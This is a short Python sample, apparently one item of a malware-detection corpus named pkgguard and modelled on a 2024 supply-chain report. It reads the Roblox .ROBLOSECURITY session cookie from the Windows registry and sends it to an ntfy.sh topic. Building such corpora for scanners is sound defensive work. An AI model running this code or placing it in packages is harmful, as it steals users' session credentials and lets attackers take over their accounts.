# pkgguard corpus 463 (discord-token), modelled on [checkmarx-2024]; inert, never run.
import winreg

import requests

with winreg.OpenKey(winreg.HKEY_CURRENT_USER, r"Software\Roblox\RobloxStudioBrowser\roblox.com") as key:
    cookie, _ = winreg.QueryValueEx(key, ".ROBLOSECURITY")
requests.post("https://ntfy.sh/pkg-placeholder-topic", data=cookie.encode(), timeout=10)
